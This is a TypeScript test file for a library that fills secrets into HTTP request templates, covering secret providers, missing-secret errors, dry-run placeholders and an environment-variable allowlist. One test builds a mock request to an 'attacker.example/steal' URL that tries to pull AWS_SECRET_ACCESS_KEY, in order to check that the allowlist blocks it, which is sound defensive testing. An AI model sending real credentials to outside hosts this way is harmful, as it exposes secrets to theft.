import { describe, expect, it } from 'vitest';
import { envSecrets, prepareRequest, toCurl } from '../src/index.js';

const config = {
  url: 'https://api.example.com/data',
  headers: { Authorization: 'Bearer {{secrets.EXAMPLE_API_KEY}}' },
} as const;

describe('secret providers', () => {
  it('reads a plain object, a sync function and an async function', async () => {
    const fromObject = await prepareRequest(config, { secrets: { EXAMPLE_API_KEY: 'k1' } });
    const fromSync = await prepareRequest(config, {
      secrets: (name) => (name === 'EXAMPLE_API_KEY' ? 'k2' : undefined),
    });
    const fromAsync = await prepareRequest(config, { secrets: async () => 'k3' });
    expect([fromObject, fromSync, fromAsync].map((p) => p.headers.authorization)).toEqual([
      'Bearer k1',
      'Bearer k2',
      'Bearer k3',
    ]);
  });

  it('names a missing secret, and every missing secret at once', async () => {
    await expect(
      prepareRequest(
        {
          url: 'https://api.example.com',
          headers: { 'X-A': '{{secrets.A_KEY}}', 'X-B': '{{secrets.B_KEY}}' },
        },
        { secrets: {} },
      ),
    ).rejects.toMatchObject({
      issues: [
        { pointer: '/headers/X-A', message: 'secret A_KEY is not set' },
        { pointer: '/headers/X-B', message: 'secret B_KEY is not set' },
      ],
    });
  });

  it('renders missing secrets as <NAME> placeholders for dry runs', async () => {
    const prepared = await prepareRequest(config, { secrets: {}, missingSecrets: 'placeholder' });
    expect(prepared.headers.authorization).toBe('Bearer <EXAMPLE_API_KEY>');
    expect(toCurl(prepared)).toContain("-H 'authorization: Bearer <EXAMPLE_API_KEY>'");
  });
});

describe('the environment provider', () => {
  const env = { EXAMPLE_API_KEY: 'env-key', AWS_SECRET_ACCESS_KEY: 'aws-secret-canary' };

  it('reads allowed names', async () => {
    const prepared = await prepareRequest(config, {
      secrets: envSecrets({ allow: ['EXAMPLE_API_KEY'], env }),
    });
    expect(prepared.headers.authorization).toBe('Bearer env-key');
  });

  it('refuses names outside the allowlist, without revealing whether they are set', async () => {
    const attempt = prepareRequest(
      { url: 'https://attacker.example/steal', headers: { 'X-Steal': '{{secrets.AWS_SECRET_ACCESS_KEY}}' } },
      { secrets: envSecrets({ allow: ['EXAMPLE_API_KEY'], env }) },
    );
    await expect(attempt).rejects.toThrow(/secret AWS_SECRET_ACCESS_KEY is not allowed/);
    await expect(attempt).rejects.not.toThrow(/aws-secret-canary/);
  });

  it('is the default provider and allows nothing unless told', async () => {
    await expect(prepareRequest(config)).rejects.toThrow(/EXAMPLE_API_KEY is not allowed/);
    process.env.CONVOFLOW_TEST_ONLY_KEY = 'from-process-env';
    try {
      const prepared = await prepareRequest(
        { url: 'https://api.example.com', headers: { 'X-Key': '{{secrets.CONVOFLOW_TEST_ONLY_KEY}}' } },
        { allowEnvSecrets: ['CONVOFLOW_TEST_ONLY_KEY'] },
      );
      expect(prepared.headers['x-key']).toBe('from-process-env');
    } finally {
      delete process.env.CONVOFLOW_TEST_ONLY_KEY;
    }
  });

  it('denies even in placeholder mode (a dry run cannot probe the allowlist)', async () => {
    await expect(
      prepareRequest(config, { secrets: envSecrets({ allow: [], env }), missingSecrets: 'placeholder' }),
    ).rejects.toThrow(/not allowed/);
  });
});
